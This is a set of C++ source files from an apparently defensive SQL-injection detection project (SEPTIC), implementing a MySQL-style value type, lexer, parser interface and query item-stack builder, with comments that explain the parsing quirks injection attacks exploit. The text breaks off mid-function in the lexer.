enum class StatementKind {
  kSelect, kInsert, kUpdate, kDelete, kCreate, kDrop,
  kShowTables, kDescribe, kTruncate, kCreateIndex, kDropIndex,
  kTransaction, kExplain,
};

StatementKind statement_kind(const Statement& s);
const char* statement_kind_name(StatementKind k);
std::string statement_to_sql(const Statement& s);

/// Quote a string back into SQL literal syntax (escaping ' and \).
std::string quote_sql_string(std::string_view s);

}  // namespace septic::sql

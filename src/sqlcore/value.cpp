#include "sqlcore/value.h"

#include <cmath>
#include <cstdio>
#include <cstdlib>

#include "common/string_util.h"

namespace septic::sql {

ValueType Value::type() const {
  switch (v_.index()) {
    case 0: return ValueType::kNull;
    case 1: return ValueType::kInt;
    case 2: return ValueType::kDouble;
    default: return ValueType::kString;
  }
}

int64_t Value::as_int() const { return std::get<int64_t>(v_); }
double Value::as_double() const { return std::get<double>(v_); }
const std::string& Value::as_string() const { return std::get<std::string>(v_); }

double numeric_prefix(std::string_view s, bool allow_fraction) {
  size_t i = 0;
  while (i < s.size() && (s[i] == ' ' || s[i] == '\t')) ++i;
  size_t start = i;
  if (i < s.size() && (s[i] == '+' || s[i] == '-')) ++i;
  size_t digits_begin = i;
  while (i < s.size() && s[i] >= '0' && s[i] <= '9') ++i;
  if (allow_fraction && i < s.size() && s[i] == '.') {
    ++i;
    while (i < s.size() && s[i] >= '0' && s[i] <= '9') ++i;
  }
  if (i == digits_begin ||
      (i == digits_begin + 1 && !allow_fraction && s[digits_begin] == '.')) {
    return 0.0;
  }
  std::string prefix(s.substr(start, i - start));
  return std::strtod(prefix.c_str(), nullptr);
}

int64_t Value::coerce_int() const {
  switch (type()) {
    case ValueType::kNull: return 0;
    case ValueType::kInt: return as_int();
    case ValueType::kDouble: return static_cast<int64_t>(std::llround(as_double()));
    case ValueType::kString:
      return static_cast<int64_t>(numeric_prefix(as_string(), false));
  }
  return 0;
}

double Value::coerce_double() const {
  switch (type()) {
    case ValueType::kNull: return 0.0;
    case ValueType::kInt: return static_cast<double>(as_int());
    case ValueType::kDouble: return as_double();
    case ValueType::kString: return numeric_prefix(as_string(), true);
  }
  return 0.0;
}

std::string Value::coerce_string() const {
  switch (type()) {
    case ValueType::kNull: return "";
    case ValueType::kInt: return std::to_string(as_int());
    case ValueType::kDouble: {
      char buf[64];
      std::snprintf(buf, sizeof(buf), "%g", as_double());
      return buf;
    }
    case ValueType::kString: return as_string();
  }
  return "";
}

bool Value::truthy() const {
  switch (type()) {
    case ValueType::kNull: return false;
    case ValueType::kInt: return as_int() != 0;
    case ValueType::kDouble: return as_double() != 0.0;
    case ValueType::kString: return numeric_prefix(as_string(), true) != 0.0;
  }
  return false;
}

int Value::compare(const Value& other) const {
  // Numeric comparison when either side is numeric (MySQL coercion).
  bool lnum = type() == ValueType::kInt || type() == ValueType::kDouble;
  bool rnum = other.type() == ValueType::kInt ||
              other.type() == ValueType::kDouble;
  if (lnum || rnum) {
    double l = coerce_double();
    double r = other.coerce_double();
    if (l < r) return -1;
    if (l > r) return 1;
    return 0;
  }
  const std::string& l = as_string();
  const std::string& r = other.as_string();
  // MySQL default collations are case-insensitive for comparison purposes;
  // binary-fold ASCII case here.
  std::string lf = common::to_lower(l);
  std::string rf = common::to_lower(r);
  if (lf < rf) return -1;
  if (lf > rf) return 1;
  return 0;
}

bool Value::operator==(const Value& other) const {
  if (type() != other.type()) return false;
  switch (type()) {
    case ValueType::kNull: return true;
    case ValueType::kInt: return as_int() == other.as_int();
    case ValueType::kDouble: return as_double() == other.as_double();
    case ValueType::kString: return as_string() == other.as_string();
  }
  return false;
}

std::string Value::repr() const {
  switch (type()) {
    case ValueType::kNull: return "N";
    case ValueType::kInt: return "I" + std::to_string(as_int());
    case ValueType::kDouble: {
      char buf[64];
      std::snprintf(buf, sizeof(buf), "D%.17g", as_double());
      return buf;
    }
    case ValueType::kString: {
      // Length-prefixed so embedded separators are safe.
      return "S" + std::to_string(as_string().size()) + ":" + as_string();
    }
  }
  return "N";
}

bool Value::from_repr(std::string_view s, Value& out) {
  if (s.empty()) return false;
  char tag = s[0];
  std::string_view rest = s.substr(1);
  switch (tag) {
    case 'N':
      if (!rest.empty()) return false;
      out = Value::null();
      return true;
    case 'I': {
      if (rest.empty()) return false;
      char* end = nullptr;
      std::string tmp(rest);
      long long v = std::strtoll(tmp.c_str(), &end, 10);
      if (end == nullptr || *end != '\0') return false;
      out = Value(static_cast<int64_t>(v));
      return true;
    }
    case 'D': {
      if (rest.empty()) return false;
      char* end = nullptr;
      std::string tmp(rest);
      double v = std::strtod(tmp.c_str(), &end);
      if (end == nullptr || *end != '\0') return false;
      out = Value(v);
      return true;
    }
    case 'S': {
      size_t colon = rest.find(':');
      if (colon == std::string_view::npos) return false;
      std::string_view len_s = rest.substr(0, colon);
      if (!common::all_digits(len_s)) return false;
      size_t len = std::strtoull(std::string(len_s).c_str(), nullptr, 10);
      std::string_view body = rest.substr(colon + 1);
      if (body.size() != len) return false;
      out = Value(std::string(body));
      return true;
    }
    default:
      return false;
  }
}

std::string Value::to_display() const {
  if (is_null()) return "NULL";
  return coerce_string();
}

}  // namespace septic::sql

// Recursive-descent parser producing the AST plus the comment list.
// Mirrors MySQL's behaviour of accepting the statement *after* charset
// conversion, so injection payloads that survive sanitization but mutate
// under conversion are parsed in their decoded form — the hook point SEPTIC
// relies on.
#pragma once

#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "sqlcore/ast.h"
#include "sqlcore/token.h"

namespace septic::sql {

class ParseError : public std::runtime_error {
 public:
  ParseError(std::string msg, size_t pos)
      : std::runtime_error(std::move(msg)), pos_(pos) {}
  size_t pos() const { return pos_; }

 private:
  size_t pos_;
};

/// A fully parsed statement plus the out-of-band artefacts SEPTIC uses.
struct ParsedQuery {
  std::string text;  // the statement text as the server saw it (post-convert)
  Statement statement;
  std::vector<Comment> comments;
};

/// Parse exactly one statement (a trailing ';' is allowed). Throws
/// LexError/ParseError on malformed input.
ParsedQuery parse(std::string_view sql);

}  // namespace septic::sql

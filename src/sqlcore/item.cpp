#include "sqlcore/item.h"

#include <cassert>

namespace septic::sql {

bool is_data_item(ItemType t) {
  switch (t) {
    case ItemType::kStringItem:
    case ItemType::kIntItem:
    case ItemType::kDecimalItem:
    case ItemType::kNullItem:
    case ItemType::kParamItem:
      return true;
    default:
      return false;
  }
}

const char* item_type_name(ItemType t) {
  switch (t) {
    case ItemType::kSelectField: return "SELECT_FIELD";
    case ItemType::kFromTable: return "FROM_TABLE";
    case ItemType::kJoinTable: return "JOIN_TABLE";
    case ItemType::kFieldItem: return "FIELD_ITEM";
    case ItemType::kFuncItem: return "FUNC_ITEM";
    case ItemType::kCondItem: return "COND_ITEM";
    case ItemType::kOrderItem: return "ORDER_ITEM";
    case ItemType::kGroupItem: return "GROUP_ITEM";
    case ItemType::kLimitItem: return "LIMIT_ITEM";
    case ItemType::kInsertTable: return "INSERT_TABLE";
    case ItemType::kInsertField: return "INSERT_FIELD";
    case ItemType::kUpdateTable: return "UPDATE_TABLE";
    case ItemType::kUpdateField: return "UPDATE_FIELD";
    case ItemType::kDeleteTable: return "DELETE_TABLE";
    case ItemType::kSetOpItem: return "SET_OP";
    case ItemType::kRowItem: return "ROW_ITEM";
    case ItemType::kStringItem: return "STRING_ITEM";
    case ItemType::kIntItem: return "INT_ITEM";
    case ItemType::kDecimalItem: return "DECIMAL_ITEM";
    case ItemType::kNullItem: return "NULL_ITEM";
    case ItemType::kParamItem: return "PARAM_ITEM";
  }
  return "?";
}

std::string ItemStack::to_string() const {
  std::string out;
  for (auto it = nodes.rbegin(); it != nodes.rend(); ++it) {
    out += item_type_name(it->type);
    out += ' ';
    out += it->data;
    out += '\n';
  }
  return out;
}

namespace {

class StackBuilder {
 public:
  explicit StackBuilder(ItemStack& out) : out_(out) {}

  void push(ItemType t, std::string data) {
    out_.nodes.push_back({t, std::move(data)});
  }

  /// Postorder emission: operands first, then the operator — which is how
  /// the nodes stack up as MySQL evaluates its Item tree.
  void emit_expr(const Expr& e) {
    switch (e.kind) {
      case ExprKind::kLiteral:
        emit_literal(e);
        return;
      case ExprKind::kColumn:
        push(ItemType::kFieldItem,
             e.table.empty() ? e.column : e.table + "." + e.column);
        return;
      case ExprKind::kUnary:
        emit_expr(*e.children[0]);
        push(ItemType::kFuncItem, e.op);
        return;
      case ExprKind::kBinary: {
        emit_expr(*e.children[0]);
        emit_expr(*e.children[1]);
        if (e.op == "AND" || e.op == "OR") {
          push(ItemType::kCondItem, e.op);
        } else {
          std::string op = e.op;
          if (e.negated) op = "NOT " + op;  // NOT LIKE
          push(ItemType::kFuncItem, std::move(op));
        }
        return;
      }
      case ExprKind::kFunc: {
        for (const auto& a : e.children) emit_expr(*a);
        push(ItemType::kFuncItem, e.func_name);
        return;
      }
      case ExprKind::kIn: {
        for (const auto& a : e.children) emit_expr(*a);
        if (e.subquery) {
          push(ItemType::kSetOpItem, "SUBQUERY");
          emit_select(*e.subquery);
        }
        push(ItemType::kFuncItem, e.negated ? "NOT IN" : "IN");
        return;
      }
      case ExprKind::kBetween: {
        for (const auto& a : e.children) emit_expr(*a);
        push(ItemType::kFuncItem, e.negated ? "NOT BETWEEN" : "BETWEEN");
        return;
      }
      case ExprKind::kIsNull: {
        emit_expr(*e.children[0]);
        push(ItemType::kFuncItem, e.negated ? "IS NOT NULL" : "IS NULL");
        return;
      }
      case ExprKind::kPlaceholder: {
        // Unbound parameter of a prepared-statement template: a wildcard
        // data node (any value may be bound at EXEC time).
        push(ItemType::kParamItem, "?");
        return;
      }
    }
  }

  void emit_literal(const Expr& e) {
    const Value& v = e.literal;
    switch (v.type()) {
      case ValueType::kNull:
        push(ItemType::kNullItem, "NULL");
        return;
      case ValueType::kInt:
        // A quoted numeric string stays STRING_ITEM ('123' != 123 in the
        // item tree even though MySQL coerces at evaluation).
        push(e.literal_was_quoted ? ItemType::kStringItem : ItemType::kIntItem,
             v.coerce_string());
        return;
      case ValueType::kDouble:
        push(e.literal_was_quoted ? ItemType::kStringItem
                                  : ItemType::kDecimalItem,
             v.coerce_string());
        return;
      case ValueType::kString:
        push(ItemType::kStringItem, v.as_string());
        return;
    }
  }

  void emit_select(const SelectStmt& sel) {
    for (const auto& t : sel.from) push(ItemType::kFromTable, t.name);
    for (const auto& j : sel.joins) push(ItemType::kJoinTable, j.table.name);
    for (const auto& it : sel.items) {
      if (it.star) {
        push(ItemType::kSelectField, "*");
      } else if (it.expr->kind == ExprKind::kColumn) {
        push(ItemType::kSelectField, it.expr->table.empty()
                                         ? it.expr->column
                                         : it.expr->table + "." +
                                               it.expr->column);
      } else {
        // Computed select item: its expression participates structurally.
        emit_expr(*it.expr);
        push(ItemType::kSelectField, "<expr>");
      }
    }
    for (const auto& j : sel.joins) emit_expr(*j.on);
    if (sel.where) emit_expr(*sel.where);
    for (const auto& g : sel.group_by) {
      emit_expr(*g);
      push(ItemType::kGroupItem, "GROUP");
    }
    if (sel.having) {
      emit_expr(*sel.having);
      push(ItemType::kFuncItem, "HAVING");
    }
    for (const auto& o : sel.order_by) {
      emit_expr(*o.expr);
      push(ItemType::kOrderItem, o.desc ? "DESC" : "ASC");
    }
    if (sel.limit) {
      push(ItemType::kIntItem, std::to_string(*sel.limit));
      push(ItemType::kLimitItem, "LIMIT");
    }
    if (sel.offset) {
      push(ItemType::kIntItem, std::to_string(*sel.offset));
      push(ItemType::kLimitItem, "OFFSET");
    }
    for (const auto& u : sel.unions) {
      push(ItemType::kSetOpItem, u.all ? "UNION ALL" : "UNION");
      emit_select(*u.select);
    }
  }

  void emit_insert(const InsertStmt& ins) {
    push(ItemType::kInsertTable, ins.table);
    for (const auto& c : ins.columns) push(ItemType::kInsertField, c);
    for (const auto& row : ins.rows) {
      push(ItemType::kRowItem, "ROW");
      for (const auto& v : row) emit_expr(*v);
    }
  }

  void emit_update(const UpdateStmt& up) {
    push(ItemType::kUpdateTable, up.table);
    for (const auto& a : up.assignments) {
      push(ItemType::kUpdateField, a.column);
      emit_expr(*a.value);
      push(ItemType::kFuncItem, "=");
    }
    if (up.where) emit_expr(*up.where);
    if (up.limit) {
      push(ItemType::kIntItem, std::to_string(*up.limit));
      push(ItemType::kLimitItem, "LIMIT");
    }
  }

  void emit_delete(const DeleteStmt& del) {
    push(ItemType::kDeleteTable, del.table);
    if (del.where) emit_expr(*del.where);
    if (del.limit) {
      push(ItemType::kIntItem, std::to_string(*del.limit));
      push(ItemType::kLimitItem, "LIMIT");
    }
  }

 private:
  ItemStack& out_;
};

void collect_values_select(const SelectStmt& sel, std::vector<Value>& out);

void collect_values(const Expr& e, std::vector<Value>& out) {
  if (e.kind == ExprKind::kLiteral && !e.literal.is_null()) {
    out.push_back(e.literal);
  }
  if (e.subquery) collect_values_select(*e.subquery, out);
  for (const auto& c : e.children) collect_values(*c, out);
}

void collect_values_select(const SelectStmt& sel, std::vector<Value>& out) {
  for (const auto& it : sel.items) {
    if (it.expr) collect_values(*it.expr, out);
  }
  for (const auto& j : sel.joins) collect_values(*j.on, out);
  if (sel.where) collect_values(*sel.where, out);
  if (sel.having) collect_values(*sel.having, out);
  for (const auto& u : sel.unions) collect_values_select(*u.select, out);
}

}  // namespace

ItemStack build_item_stack(const Statement& stmt) {
  ItemStack out;
  out.kind = statement_kind(stmt);
  StackBuilder b(out);
  switch (out.kind) {
    case StatementKind::kSelect:
      b.emit_select(*std::get<SelectPtr>(stmt));
      break;
    case StatementKind::kInsert:
      b.emit_insert(std::get<InsertStmt>(stmt));
      break;
    case StatementKind::kUpdate:
      b.emit_update(std::get<UpdateStmt>(stmt));
      break;
    case StatementKind::kDelete:
      b.emit_delete(std::get<DeleteStmt>(stmt));
      break;
    case StatementKind::kCreate: {
      const auto& ct = std::get<CreateTableStmt>(stmt);
      b.push(ItemType::kFromTable, ct.table);
      for (const auto& c : ct.columns) b.push(ItemType::kFieldItem, c.name);
      break;
    }
    case StatementKind::kDrop: {
      const auto& d = std::get<DropTableStmt>(stmt);
      b.push(ItemType::kFromTable, d.table);
      break;
    }
    case StatementKind::kShowTables:
      break;  // no operands
    case StatementKind::kDescribe:
      b.push(ItemType::kFromTable, std::get<DescribeStmt>(stmt).table);
      break;
    case StatementKind::kTruncate:
      b.push(ItemType::kFromTable, std::get<TruncateStmt>(stmt).table);
      break;
    case StatementKind::kCreateIndex: {
      const auto& ci = std::get<CreateIndexStmt>(stmt);
      b.push(ItemType::kFromTable, ci.table);
      b.push(ItemType::kFieldItem, ci.column);
      break;
    }
    case StatementKind::kDropIndex:
      b.push(ItemType::kFromTable, std::get<DropIndexStmt>(stmt).table);
      break;
    case StatementKind::kTransaction:
      break;  // no operands
    case StatementKind::kExplain:
      b.push(ItemType::kFuncItem, "EXPLAIN");
      b.emit_select(*std::get<ExplainStmt>(stmt).select);
      break;
  }
  return out;
}

std::vector<Value> extract_data_values(const Statement& stmt) {
  std::vector<Value> out;
  switch (statement_kind(stmt)) {
    case StatementKind::kSelect: {
      const auto& sel = *std::get<SelectPtr>(stmt);
      std::vector<const SelectStmt*> all = {&sel};
      for (const auto& u : sel.unions) all.push_back(u.select.get());
      for (const SelectStmt* s : all) {
        for (const auto& it : s->items) {
          if (it.expr) collect_values(*it.expr, out);
        }
        for (const auto& j : s->joins) collect_values(*j.on, out);
        if (s->where) collect_values(*s->where, out);
        if (s->having) collect_values(*s->having, out);
      }
      break;
    }
    case StatementKind::kInsert: {
      const auto& ins = std::get<InsertStmt>(stmt);
      for (const auto& row : ins.rows) {
        for (const auto& v : row) collect_values(*v, out);
      }
      break;
    }
    case StatementKind::kUpdate: {
      const auto& up = std::get<UpdateStmt>(stmt);
      for (const auto& a : up.assignments) collect_values(*a.value, out);
      if (up.where) collect_values(*up.where, out);
      break;
    }
    case StatementKind::kDelete: {
      const auto& del = std::get<DeleteStmt>(stmt);
      if (del.where) collect_values(*del.where, out);
      break;
    }
    default:
      break;
  }
  return out;
}

}  // namespace septic::sql

// SQL runtime value: the typed cell used by literals, rows, and expression
// evaluation. Comparison and coercion follow MySQL's permissive semantics
// (string->number coercion in numeric context), because several of the
// paper's semantic-mismatch attacks rely on exactly that behaviour.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <variant>

namespace septic::sql {

enum class ValueType { kNull, kInt, kDouble, kString };

/// A dynamically-typed SQL value. Regular type: copyable, comparable,
/// hashable via repr().
class Value {
 public:
  Value() : v_(std::monostate{}) {}  // NULL
  explicit Value(int64_t i) : v_(i) {}
  explicit Value(double d) : v_(d) {}
  explicit Value(std::string s) : v_(std::move(s)) {}
  static Value null() { return Value(); }

  ValueType type() const;
  bool is_null() const { return type() == ValueType::kNull; }

  /// Numeric accessors; preconditions checked with assertions in callers.
  int64_t as_int() const;
  double as_double() const;
  const std::string& as_string() const;

  /// MySQL-style coercions (never throw):
  ///  - to_int: leading numeric prefix of a string, 0 otherwise.
  ///  - to_double: same with decimal support.
  ///  - to_string: canonical text rendering; NULL -> "" for concatenation
  ///    contexts is handled by callers (SQL NULL propagates).
  int64_t coerce_int() const;
  double coerce_double() const;
  std::string coerce_string() const;

  /// True in a boolean context (MySQL: nonzero number, numeric-prefix
  /// string nonzero; NULL is false).
  bool truthy() const;

  /// Three-way compare with MySQL coercion; NULLs compare as unknown and
  /// must be handled by the caller (is_null checks first). Numeric compare
  /// if either side is numeric, else binary string compare.
  int compare(const Value& other) const;

  bool operator==(const Value& other) const;

  /// Unambiguous serialized representation (type-tagged), used for
  /// persistence and hashing.
  std::string repr() const;
  /// Parse a repr() string back; returns false on malformed input.
  static bool from_repr(std::string_view s, Value& out);

  /// Human-readable rendering for logs / result printing.
  std::string to_display() const;

 private:
  std::variant<std::monostate, int64_t, double, std::string> v_;
};

/// MySQL-style numeric prefix parse: skips leading spaces, reads an optional
/// sign and digits (and fraction when `allow_fraction`), ignores trailing
/// garbage. "123abc" -> 123, "abc" -> 0.
double numeric_prefix(std::string_view s, bool allow_fraction);

}  // namespace septic::sql

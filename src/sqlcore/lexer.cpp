#include "sqlcore/lexer.h"

#include <array>
#include <cctype>
#include <charconv>
#include <climits>
#include <cmath>
#include <cstdint>
#include <unordered_map>

namespace septic::sql {

namespace {

// Keyword table: canonical upper-case spellings with static storage, looked
// up case-insensitively so the lexer never builds an uppercase std::string
// per identifier token (the old `common::to_upper(word)` copy). kKeyword
// tokens view these entries directly.
constexpr std::string_view kKeywords[] = {
    "SELECT", "FROM",   "WHERE",   "AND",    "OR",     "NOT",    "INSERT",
    "INTO",   "VALUES", "UPDATE",  "SET",    "DELETE", "CREATE", "TABLE",
    "DROP",   "IF",     "EXISTS",  "NULL",   "LIKE",   "IN",     "BETWEEN",
    "IS",     "ORDER",  "BY",      "ASC",    "DESC",   "LIMIT",  "OFFSET",
    "GROUP",  "HAVING", "JOIN",    "INNER",  "LEFT",   "ON",     "AS",
    "UNION",  "ALL",    "DISTINCT","PRIMARY","KEY",    "DEFAULT","INT",
    "INTEGER","BIGINT", "DOUBLE",  "FLOAT",  "TEXT",   "VARCHAR","CHAR",
    "TRUE",   "FALSE",  "AUTO_INCREMENT", "SHOW", "TABLES", "DESCRIBE",
    "TRUNCATE", "INDEX", "BEGIN", "START", "TRANSACTION", "COMMIT",
    "ROLLBACK", "EXPLAIN", "READ", "ONLY",
};

constexpr size_t kMaxKeywordLen = 14;  // AUTO_INCREMENT

char upper_ascii(char c) {
  return c >= 'a' && c <= 'z' ? static_cast<char>(c - ('a' - 'A')) : c;
}

struct CiHash {
  size_t operator()(std::string_view s) const {
    // FNV-1a over upper-cased bytes.
    uint64_t h = 1469598103934665603ull;
    for (char c : s) {
      h ^= static_cast<unsigned char>(upper_ascii(c));
      h *= 1099511628211ull;
    }
    return static_cast<size_t>(h);
  }
};

struct CiEq {
  bool operator()(std::string_view a, std::string_view b) const {
    if (a.size() != b.size()) return false;
    for (size_t i = 0; i < a.size(); ++i) {
      if (upper_ascii(a[i]) != upper_ascii(b[i])) return false;
    }
    return true;
  }
};

using KeywordMap =
    std::unordered_map<std::string_view, std::string_view, CiHash, CiEq>;

const KeywordMap& keyword_map() {
  static const KeywordMap map = [] {
    KeywordMap m;
    m.reserve(std::size(kKeywords) * 2);
    for (std::string_view kw : kKeywords) m.emplace(kw, kw);
    return m;
  }();
  return map;
}

/// Canonical (static, upper-case) spelling if `word` is a keyword, else an
/// empty view. Length fast-reject keeps arbitrary identifiers off the hash.
std::string_view keyword_canonical(std::string_view word) {
  if (word.size() > kMaxKeywordLen || word.empty()) return {};
  const KeywordMap& m = keyword_map();
  auto it = m.find(word);
  return it == m.end() ? std::string_view{} : it->second;
}

bool is_ident_start(char c) {
  return std::isalpha(static_cast<unsigned char>(c)) || c == '_' ||
         static_cast<unsigned char>(c) >= 0x80;
}
bool is_ident_char(char c) {
  return is_ident_start(c) || std::isdigit(static_cast<unsigned char>(c)) ||
         c == '$';
}

/// Decode a string-literal body (escapes and/or doubled quotes present)
/// into the arena. `body` excludes the outer quotes. Decoded output is
/// never longer than the input (every escape maps to <= its source bytes),
/// so one arena block of body.size() always suffices.
std::string_view decode_string_body(Arena& arena, std::string_view body,
                                    char quote) {
  char* out = arena.alloc(body.size());
  size_t len = 0;
  size_t i = 0;
  const size_t n = body.size();
  while (i < n) {
    char d = body[i];
    if (d == '\\' && i + 1 < n) {
      char e = body[i + 1];
      switch (e) {
        case 'n': out[len++] = '\n'; break;
        case 't': out[len++] = '\t'; break;
        case 'r': out[len++] = '\r'; break;
        case '0': out[len++] = '\0'; break;
        case 'b': out[len++] = '\b'; break;
        case 'Z': out[len++] = '\x1a'; break;
        case '\\': out[len++] = '\\'; break;
        case '\'': out[len++] = '\''; break;
        case '"': out[len++] = '"'; break;
        case '%': out[len++] = '\\'; out[len++] = '%'; break;  // kept for LIKE
        case '_': out[len++] = '\\'; out[len++] = '_'; break;
        default: out[len++] = e; break;  // MySQL: unknown escape = literal char
      }
      i += 2;
      continue;
    }
    if (d == quote) {  // doubled quote (the lexer validated pairing)
      out[len++] = quote;
      i += 2;
      continue;
    }
    out[len++] = d;
    ++i;
  }
  return {out, len};
}

/// Unescape a backtick identifier body containing doubled backticks.
std::string_view decode_backtick_body(Arena& arena, std::string_view body) {
  char* out = arena.alloc(body.size());
  size_t len = 0;
  for (size_t i = 0; i < body.size(); ++i) {
    out[len++] = body[i];
    if (body[i] == '`') ++i;  // skip the doubling
  }
  return {out, len};
}

}  // namespace

bool is_reserved_keyword(std::string_view word) {
  return !keyword_canonical(word).empty();
}

LexResult lex(std::string_view sql) {
  LexResult out;
  size_t i = 0;
  const size_t n = sql.size();
  out.tokens.reserve(n / 6 + 4);
  bool in_conditional_comment = false;  // inside /*! ... */

  auto push = [&](Token t) { out.tokens.push_back(t); };

  while (i < n) {
    char c = sql[i];
    // Whitespace.
    if (c == ' ' || c == '\t' || c == '\r' || c == '\n' || c == '\f' ||
        c == '\v') {
      ++i;
      continue;
    }
    // Comments.
    if (c == '#') {
      size_t start = i + 1;
      size_t end = sql.find('\n', start);
      if (end == std::string_view::npos) end = n;
      out.comments.push_back(
          {Comment::Kind::kHash, std::string(sql.substr(start, end - start)), i});
      i = end;
      continue;
    }
    if (c == '-' && i + 1 < n && sql[i + 1] == '-' &&
        (i + 2 >= n || sql[i + 2] == ' ' || sql[i + 2] == '\t' ||
         sql[i + 2] == '\n' || sql[i + 2] == '\r')) {
      // MySQL requires whitespace (or end of statement) after "--".
      size_t start = i + 2;
      size_t end = sql.find('\n', start);
      if (end == std::string_view::npos) end = n;
      out.comments.push_back({Comment::Kind::kDashDash,
                              std::string(sql.substr(start, end - start)), i});
      i = end;
      continue;
    }
    if (c == '/' && i + 1 < n && sql[i + 1] == '*') {
      // MySQL version-conditional comment /*!50000 ... */: the body is
      // EXECUTED, not stripped — the classic mismatch WAFs fall for.
      if (i + 2 < n && sql[i + 2] == '!') {
        size_t j = i + 3;
        while (j < n && std::isdigit(static_cast<unsigned char>(sql[j]))) ++j;
        if (sql.find("*/", j) == std::string_view::npos) {
          throw LexError("unterminated /*! comment", i);
        }
        in_conditional_comment = true;
        i = j;
        continue;
      }
      size_t start = i + 2;
      size_t end = sql.find("*/", start);
      if (end == std::string_view::npos) {
        // MySQL treats an unterminated block comment as a syntax error.
        throw LexError("unterminated /* comment", i);
      }
      out.comments.push_back(
          {Comment::Kind::kBlock, std::string(sql.substr(start, end - start)), i});
      i = end + 2;
      continue;
    }
    if (c == '*' && i + 1 < n && sql[i + 1] == '/' && in_conditional_comment) {
      in_conditional_comment = false;
      i += 2;
      continue;
    }
    // String literals (' or "), with backslash escapes and doubled quotes.
    // Scan for the closing quote first; only literals that actually contain
    // escapes or doubled quotes pay for a decode into the arena — clean
    // literals view the source buffer directly.
    if (c == '\'' || c == '"') {
      char quote = c;
      size_t start = i;
      ++i;
      size_t body_start = i;
      bool needs_decode = false;
      bool closed = false;
      while (i < n) {
        char d = sql[i];
        if (d == '\\' && i + 1 < n) {
          needs_decode = true;
          i += 2;
          continue;
        }
        if (d == quote) {
          if (i + 1 < n && sql[i + 1] == quote) {  // doubled quote
            needs_decode = true;
            i += 2;
            continue;
          }
          closed = true;
          break;
        }
        ++i;
      }
      if (!closed) throw LexError("unterminated string literal", start);
      size_t body_end = i;
      ++i;  // past the closing quote
      Token t;
      t.type = TokenType::kString;
      t.text = sql.substr(start, i - start);
      std::string_view body = sql.substr(body_start, body_end - body_start);
      t.str_value =
          needs_decode ? decode_string_body(out.arena, body, quote) : body;
      t.pos = start;
      push(t);
      continue;
    }
    // Backtick-quoted identifier.
    if (c == '`') {
      size_t start = i;
      ++i;
      size_t body_start = i;
      bool needs_decode = false;
      bool closed = false;
      while (i < n) {
        if (sql[i] == '`') {
          if (i + 1 < n && sql[i + 1] == '`') {
            needs_decode = true;
            i += 2;
            continue;
          }
          closed = true;
          break;
        }
        ++i;
      }
      if (!closed) throw LexError("unterminated quoted identifier", start);
      size_t body_end = i;
      ++i;  // past the closing backtick
      std::string_view body = sql.substr(body_start, body_end - body_start);
      Token t;
      t.type = TokenType::kIdentifier;
      t.text = needs_decode ? decode_backtick_body(out.arena, body) : body;
      t.pos = start;
      push(t);
      continue;
    }
    // Numbers (integer, decimal, 0x hex).
    if (std::isdigit(static_cast<unsigned char>(c)) ||
        (c == '.' && i + 1 < n &&
         std::isdigit(static_cast<unsigned char>(sql[i + 1])))) {
      size_t start = i;
      if (c == '0' && i + 1 < n && (sql[i + 1] == 'x' || sql[i + 1] == 'X')) {
        i += 2;
        size_t hex_start = i;
        while (i < n && std::isxdigit(static_cast<unsigned char>(sql[i]))) ++i;
        if (i == hex_start) throw LexError("malformed hex literal", start);
        Token t;
        t.type = TokenType::kInteger;
        t.text = sql.substr(start, i - start);
        uint64_t hex = 0;
        auto [p, ec] = std::from_chars(sql.data() + hex_start, sql.data() + i,
                                       hex, 16);
        if (ec == std::errc::result_out_of_range) hex = UINT64_MAX;
        (void)p;
        t.int_value = static_cast<int64_t>(hex);
        t.pos = start;
        push(t);
        continue;
      }
      bool has_dot = false;
      bool has_exp = false;
      while (i < n) {
        char d = sql[i];
        if (std::isdigit(static_cast<unsigned char>(d))) {
          ++i;
        } else if (d == '.' && !has_dot && !has_exp) {
          has_dot = true;
          ++i;
        } else if ((d == 'e' || d == 'E') && !has_exp && i + 1 < n &&
                   (std::isdigit(static_cast<unsigned char>(sql[i + 1])) ||
                    ((sql[i + 1] == '+' || sql[i + 1] == '-') && i + 2 < n &&
                     std::isdigit(static_cast<unsigned char>(sql[i + 2]))))) {
          has_exp = true;
          ++i;
          if (sql[i] == '+' || sql[i] == '-') ++i;
        } else {
          break;
        }
      }
      std::string_view text = sql.substr(start, i - start);
      Token t;
      t.text = text;
      t.pos = start;
      if (has_dot || has_exp) {
        t.type = TokenType::kDecimal;
        auto [p, ec] =
            std::from_chars(text.data(), text.data() + text.size(), t.dbl_value);
        if (ec == std::errc::result_out_of_range) t.dbl_value = HUGE_VAL;
        (void)p;
      } else {
        t.type = TokenType::kInteger;
        auto [p, ec] =
            std::from_chars(text.data(), text.data() + text.size(), t.int_value);
        if (ec == std::errc::result_out_of_range) t.int_value = INT64_MAX;
        (void)p;
      }
      push(t);
      continue;
    }
    // Identifiers / keywords.
    if (is_ident_start(c)) {
      size_t start = i;
      while (i < n && is_ident_char(sql[i])) ++i;
      std::string_view word = sql.substr(start, i - start);
      std::string_view canon = keyword_canonical(word);
      Token t;
      t.pos = start;
      if (!canon.empty()) {
        t.type = TokenType::kKeyword;
        t.text = canon;  // static canonical spelling, already upper
      } else {
        t.type = TokenType::kIdentifier;
        t.text = word;
      }
      push(t);
      continue;
    }
    // Multi-char operators. The string_view parameter refers to a string
    // literal with static storage, so the token can view it directly.
    auto try_op = [&](std::string_view op) -> bool {
      if (sql.substr(i, op.size()) == op) {
        Token t;
        t.type = TokenType::kOperator;
        t.text = op;
        t.pos = i;
        i += op.size();
        push(t);
        return true;
      }
      return false;
    };
    if (try_op("<=>") || try_op("<>") || try_op("!=") || try_op("<=") ||
        try_op(">=") || try_op("||") || try_op("&&")) {
      continue;
    }
    if (c == '=' || c == '<' || c == '>' || c == '+' || c == '-' ||
        c == '*' || c == '/' || c == '%' || c == '!') {
      Token t;
      t.type = TokenType::kOperator;
      t.text = sql.substr(i, 1);
      t.pos = i;
      ++i;
      push(t);
      continue;
    }
    if (c == '?') {
      Token t;
      t.type = TokenType::kPlaceholder;
      t.text = sql.substr(i, 1);
      t.pos = i;
      ++i;
      push(t);
      continue;
    }
    if (c == '(' || c == ')' || c == ',' || c == ';' || c == '.') {
      Token t;
      t.type = TokenType::kPunct;
      t.text = sql.substr(i, 1);
      t.pos = i;
      ++i;
      push(t);
      continue;
    }
    throw LexError("unexpected character '" + std::string(1, c) + "'", i);
  }

  Token end;
